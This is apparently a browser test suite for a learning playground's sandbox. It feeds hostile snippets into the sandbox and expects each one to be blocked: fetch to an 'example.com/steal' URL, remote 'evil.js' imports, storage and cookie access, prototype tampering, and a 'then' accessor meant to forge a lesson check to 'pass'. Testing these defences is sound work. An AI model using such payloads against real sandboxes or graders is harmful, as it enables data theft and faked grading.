import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { useBrowser } from './browser';
import {
  GOOD_PROGRAM,
  longestTask,
  pipelineWith,
  recordLongTasks,
  resetLongTasks,
  runToEnd,
  setCode,
  sinkValues,
  visibleCode,
} from './workbench';

/**
 * Code a learner might paste from a stranger's link. Each case must end with a clear message,
 * leave the page responsive and the saved work intact, and the next Run must work.
 */
const cases: { name: string; statement: string; imports?: string; message: RegExp | null }[] = [
  { name: 'an endless loop', statement: 'while (true) {}', message: /endless loop near line 4/ },
  {
    name: 'an async endless loop',
    statement: '(async () => { while (true) { await null; } })();',
    message: /endless loop near line 4/,
  },
  {
    // No loop of the learner's for the guard to stop: the time goes inside one built-in call.
    name: 'a regular expression that backtracks for ever',
    statement: "/^(a+)+$/.test('a'.repeat(40) + 'b');",
    message: /inside one call that never returned.*regular expression that backtracks/s,
  },
  {
    name: 'deep recursion',
    statement: 'const f = (n: number): number => f(n + 1) + 1; f(0);',
    message: /recursed too deeply near line 4/,
  },
  {
    name: 'a 4 GB allocation',
    statement: 'const big = new Uint8Array(4 * 1024 ** 3); big.fill(1);',
    message: /more memory than the playground can give near line 4/,
  },
  {
    name: 'fetch',
    statement: "fetch('https://example.com/steal');",
    message: /fetch is not available here: the playground has no network/,
  },
  {
    name: 'XMLHttpRequest',
    statement: "const x = new XMLHttpRequest(); x.open('GET', 'https://example.com/'); x.send();",
    message: /XMLHttpRequest is not available here: the playground has no network/,
  },
  {
    name: 'WebSocket',
    statement: "new WebSocket('wss://example.com/');",
    message: /WebSocket is not available here: the playground has no network/,
  },
  {
    name: 'importScripts',
    statement: "(self as any).importScripts('https://example.com/evil.js');",
    message: /importScripts is not available here/,
  },
  {
    name: 'a dynamic import of a remote URL',
    statement: "import('https://example.com/evil.js');",
    message: /"https:\/\/example\.com\/evil\.js" cannot be imported here/,
  },
  {
    name: 'indexedDB',
    statement: "indexedDB.open('streamlab');",
    message: /indexedDB is not available here: the playground has no storage/,
  },
  {
    name: 'localStorage',
    statement: "(self as any).localStorage.getItem('streamlab:theme');",
    message: /localStorage is not available here: the playground has no storage/,
  },
  {
    name: 'document.cookie',
    statement: '(globalThis as any).document.cookie;',
    message: /Cannot read properties of undefined \(reading 'cookie'\)/,
  },
  {
    name: 'a postMessage pretending to be the engine',
    statement:
      "postMessage({ type: 'streamlab:worker-error', message: 'fake' }); postMessage({ id: '1', type: 'HANDLER', value: 1 });",
    message: null,
  },
  {
    name: 'self.close()',
    statement: 'self.close();',
    message: /close is not available here: the playground cannot be closed by a pipeline/,
  },
  {
    name: 'tampering with Array.prototype',
    statement: 'Array.prototype.push = () => 0;',
    message: /Cannot assign to read only property 'push'/,
  },
  {
    name: 'a learner Worker (it would outlive the run)',
    statement: "new Worker(URL.createObjectURL(new Blob(['while (true) {}'])));",
    message: /Worker is not available here: the playground starts no workers of its own/,
  },
  {
    // The getter would see the page's requests arrive, and `this.target` is the page's port.
    name: "a MessageEvent.prototype.data getter reaching for the page's port",
    statement:
      "Object.defineProperty(MessageEvent.prototype, 'data', { get() { const port = (this as any).target; for (let i = 0; i < 1e5; i++) port.postMessage({ id: 'x', type: 'RAW', value: { ok: false, failure: { kind: 'syntax', message: 'Visit https://example.com' } } }); return undefined; } });",
    message: /Cannot redefine property: data/,
  },
  {
    // A `then` on Object.prototype would see (and could rewrite) every reply before it is sent.
    name: 'a then accessor on Object.prototype rewriting the replies',
    statement:
      "Object.defineProperty(Object.prototype, 'then', { configurable: true, get() { (this as any).pass = true; return undefined; } });",
    message: /Cannot define property then, object is not extensible/,
  },
  {
    name: "tampering with the engine's objects",
    imports: "import * as streamlab from 'streamlab';",
    statement: '(streamlab.WatermarkStrategy as any).noWatermarks = () => null;',
    message: /Cannot assign to read only property 'noWatermarks'/,
  },
];

describe('hostile code in the sandbox', () => {
  // One tab for every case, as a learner who opens one stranger's link after another: each case
  // must leave the page fit for the next, whose Run (after a reload) is the proof that it did.
  const { start } = useBrowser({ shared: true });

  for (const c of cases) {
    it(`survives ${c.name}`, async () => {
      const { page, open } = await start();
      if (page.url() === 'about:blank') await recordLongTasks(page);
      await open('#/sandbox');
      const code = pipelineWith(c.statement, c.imports);
      await setCode(page, code);
      await page.locator('[data-save-state="saved"]').waitFor();
      await resetLongTasks(page);

      const status = await runToEnd(page);
      if (c.message) {
        expect(status).toBe('failed');
        expect(await page.locator('[data-failure-kind]').innerText()).toMatch(c.message);
      } else {
        expect(status).toBe('finished');
        expect(await sinkValues(page, 'out')).toEqual(['3', '2', '1']);
      }
      // The page stayed responsive the whole time.
      expect(await longestTask(page)).toBeLessThan(200);

      // Saved work is intact after a reload.
      await page.reload();
      await page.locator('[data-editor-status="ready"]').waitFor();
      expect(await visibleCode(page)).toContain(c.statement.slice(0, 20));
    });
  }

  it('runs a plain program after all of them', async () => {
    const { page, open } = await start();
    await open('#/sandbox');
    await setCode(page, GOOD_PROGRAM);
    expect(await runToEnd(page)).toBe('finished');
    expect(await sinkValues(page, 'good')).toEqual(['31', '21', '11']);
  });
});

describe("a lesson's check out of the learner's reach", () => {
  const { start } = useBrowser();
  const lesson = 'lessons/01-basics/01-what-is-a-stream';
  const read = (path: string) =>
    readFileSync(new URL(`../../${lesson}/${path}`, import.meta.url), 'utf8');

  it('cannot be turned into "Check passed", and grades the real solution', async () => {
    const { page, open } = await start();
    await open('#/learn/what-is-a-stream');
    const header = 'export default function pipeline(env: StreamExecutionEnvironment) {';
    // The attack of the issue: a `then` accessor that flips every verdict to a pass.
    const forged = read('starter/pipeline.ts').replace(
      header,
      `${header}\n  Object.defineProperty(Object.prototype, 'then', { configurable: true, get() { if ((this as any).ok === true) (this as any).pass = true; return undefined; } });`,
    );
    await setCode(page, forged);
    expect(await runToEnd(page)).toBe('failed');
    expect(await page.locator('[data-failure-kind]').innerText()).toMatch(
      /Cannot define property then, object is not extensible/,
    );
    expect(await page.locator('[data-check="pass"]').count()).toBe(0);

    // The check still runs, in its own clean sandbox, and passes a real solution.
    await setCode(page, read('solution/pipeline.ts'));
    expect(await runToEnd(page)).toBe('finished');
    await page.locator('[data-check="pass"]').waitFor();
  });
});
